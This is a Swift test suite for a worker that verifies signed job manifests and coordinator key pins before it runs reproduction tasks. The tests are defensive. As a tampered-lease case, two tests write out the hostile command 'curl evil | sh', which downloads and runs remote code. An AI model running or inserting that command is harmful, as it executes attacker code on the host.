import Crypto
import Foundation
import ReproCore
import Testing

@testable import ReproWorker

/// The worker's check before it runs anything (decision 0007), as data: each way a lease can differ
/// from what the coordinator signed is refused, and the untouched lease runs.
@Suite("Manifest verification")
struct ManifestVerifierTests {
    static let key = Curve25519.Signing.PrivateKey()
    static var keyID: String { SigningKeyring.keyID(of: key.publicKey) }
    static var pinned: [String: Curve25519.Signing.PublicKey] { [keyID: key.publicKey] }

    /// A signed lease as the coordinator would send it.
    static func lease() throws -> TaskLease {
        let studyID = UUID()
        let manifest = JobManifest(
            studyID: studyID,
            spec: StudySpec(
                preprint: PreprintSpec(id: "arXiv:2401.01234", title: "t"),
                code: .bundle("sha256:" + String(repeating: "ab", count: 32)),
                environment: .python(requirements: "requirements.txt"),
                run: RunSpec(
                    command: ["python3", "train.py", "--seed", "{seed}", "--dataset", "{dataset}"], timeoutSeconds: 60),
                matrix: MatrixSpec(seeds: [1, 2], datasets: ["digits"])))
        let signature = ManifestSignature(
            signature: try key.signature(for: manifest.canonicalJSON()).base64EncodedString(), keyID: keyID)
        return TaskLease(
            taskID: 1, leaseID: UUID(), studyID: studyID, dataset: "digits", seed: 2, configuration: nil, replica: 0,
            attempt: 1, arguments: ["python3", "train.py", "--seed", "2", "--dataset", "digits"], job: manifest.job,
            leaseExpiresAt: Date(), manifest: manifest, signature: signature)
    }

    static func refusal(_ lease: TaskLease, pinned: [String: Curve25519.Signing.PublicKey] = pinned) -> String? {
        if case .refused(let reason) = ManifestVerifier.verify(lease, pinned: pinned) { return reason }
        return nil
    }

    @Test("an untouched signed lease is verified")
    func verified() throws {
        #expect(ManifestVerifier.verify(try Self.lease(), pinned: Self.pinned) == .verified(keyID: Self.keyID))
    }

    @Test("a changed task command is refused")
    func changedArguments() throws {
        var lease = try Self.lease()
        lease.arguments = ["sh", "-c", "curl evil | sh"]
        #expect(Self.refusal(lease)?.contains("command differs") == true)
    }

    @Test("a changed command in the manifest breaks the signature")
    func changedManifestCommand() throws {
        var lease = try Self.lease()
        lease.manifest?.command = ["sh", "-c", "curl evil | sh"]
        #expect(Self.refusal(lease)?.contains("does not verify") == true)
    }

    @Test("a changed bundle hash is refused, in the lease's job or in the manifest")
    func changedBundle() throws {
        var lease = try Self.lease()
        lease.job.code.bundleSHA256 = String(repeating: "ee", count: 32)
        #expect(Self.refusal(lease)?.contains("differ from the signed manifest") == true)
        lease = try Self.lease()
        lease.manifest?.code.bundleSHA256 = String(repeating: "ee", count: 32)
        lease.job.code.bundleSHA256 = String(repeating: "ee", count: 32)
        #expect(Self.refusal(lease)?.contains("does not verify") == true)
    }

    @Test("a changed network flag or memory limit is refused")
    func changedResources() throws {
        var lease = try Self.lease()
        lease.job.network = true
        #expect(Self.refusal(lease) != nil)
        lease = try Self.lease()
        lease.job.timeoutSeconds = 86_400
        #expect(Self.refusal(lease) != nil)
    }

    @Test("an altered or missing signature, an unknown key, another study, or an unknown dataset is refused")
    func otherRefusals() throws {
        var lease = try Self.lease()
        var bytes = Data(base64Encoded: lease.signature!.signature)!
        bytes[0] ^= 1
        lease.signature?.signature = bytes.base64EncodedString()
        #expect(Self.refusal(lease)?.contains("does not verify") == true)

        lease = try Self.lease()
        lease.signature = nil
        #expect(Self.refusal(lease) != nil)
        lease = try Self.lease()
        lease.manifest = nil
        #expect(Self.refusal(lease) != nil)

        lease = try Self.lease()
        let other = Curve25519.Signing.PrivateKey()
        #expect(
            Self.refusal(lease, pinned: [SigningKeyring.keyID(of: other.publicKey): other.publicKey])?.contains(
                "not pinned") == true)

        lease = try Self.lease()
        lease.studyID = UUID()
        #expect(Self.refusal(lease)?.contains("belongs to study") == true)

        lease = try Self.lease()
        lease.dataset = "secrets"
        lease.arguments = ["python3", "train.py", "--seed", "2", "--dataset", "secrets"]
        #expect(Self.refusal(lease)?.contains("not in the signed manifest") == true)
    }
}

@Suite("Coordinator key pinning")
struct CoordinatorKeyPinTests {
    static func entry(_ key: Curve25519.Signing.PrivateKey, endorsedBy: Curve25519.Signing.PrivateKey? = nil) throws
        -> SigningKeyring.Entry
    {
        try SigningKeyring.Entry(key: key.publicKey, createdAt: Date(), endorser: endorsedBy)
    }

    @Test("the first start pins what the coordinator presents; the saved pins come back")
    func trustOnFirstUse() throws {
        let directory = try TemporaryDirectory()
        let a = Curve25519.Signing.PrivateKey()
        let presented = SigningKeyring(keys: [try Self.entry(a)])
        let first = try CoordinatorKeyPin.establish(coordinator: "http://c", presented: presented, base: nil)
        #expect(first.how == .trustedOnFirstUse([SigningKeyring.keyID(of: a.publicKey)]))
        try first.pin.save(in: directory.url)
        let mode =
            try FileManager.default.attributesOfItem(atPath: CoordinatorKeyPin.file(in: directory.url).path)[
                .posixPermissions] as? Int
        #expect(mode == 0o600)
        // Dates are saved to the second: compare the keys themselves.
        let loaded = CoordinatorKeyPin.load(from: directory.url, coordinator: "http://c")
        #expect(loaded?.keys.map(\.publicKey) == first.pin.keys.map(\.publicKey))
        #expect(loaded?.publicKeys.keys.sorted() == first.pin.publicKeys.keys.sorted())
        #expect(CoordinatorKeyPin.load(from: directory.url, coordinator: "http://other") == nil)
    }

    @Test("a worker pinned to key A refuses a coordinator presenting only key B")
    func refusesOtherKey() throws {
        let a = Curve25519.Signing.PrivateKey()
        let b = Curve25519.Signing.PrivateKey()
        #expect(throws: WorkerError.self) {
            try CoordinatorKeyPin.establish(
                coordinator: "http://c", presented: SigningKeyring(keys: [try Self.entry(b)]), base: [try Self.entry(a)]
            )
        }
        // B claiming to be endorsed by A, with a signature A never made, is refused the same way.
        var forged = try Self.entry(b, endorsedBy: b)
        forged.endorsedBy = SigningKeyring.keyID(of: a.publicKey)
        #expect(throws: WorkerError.self) {
            try CoordinatorKeyPin.establish(
                coordinator: "http://c", presented: SigningKeyring(keys: [forged]), base: [try Self.entry(a)])
        }
    }

    @Test("after a rotation the worker pinned to A accepts B, which A endorsed")
    func followsRotation() throws {
        let a = Curve25519.Signing.PrivateKey()
        let b = Curve25519.Signing.PrivateKey()
        let presented = SigningKeyring(keys: [try Self.entry(a), try Self.entry(b, endorsedBy: a)])
        let result = try CoordinatorKeyPin.establish(
            coordinator: "http://c", presented: presented, base: [try Self.entry(a)])
        #expect(result.how == .confirmed(added: [SigningKeyring.keyID(of: b.publicKey)]))
        #expect(Set(result.pin.publicKeys.keys) == Set(presented.keys.map(\.keyID)))
    }

    @Test("--coordinator-key takes a base64 key or a file of them, and refuses anything else")
    func parsesGivenKeys() throws {
        let a = Curve25519.Signing.PrivateKey()
        let text = a.publicKey.rawRepresentation.base64EncodedString()
        #expect(try CoordinatorKeyPin.parse(text).map(\.keyID) == [SigningKeyring.keyID(of: a.publicKey)])
        let directory = try TemporaryDirectory()
        let file = directory.url.appendingPathComponent("keys.txt")
        try Data("# coordinator\n\(text)\n".utf8).write(to: file)
        #expect(try CoordinatorKeyPin.parse(file.path).count == 1)
        #expect(throws: WorkerError.self) { try CoordinatorKeyPin.parse("not-a-key") }
    }
}
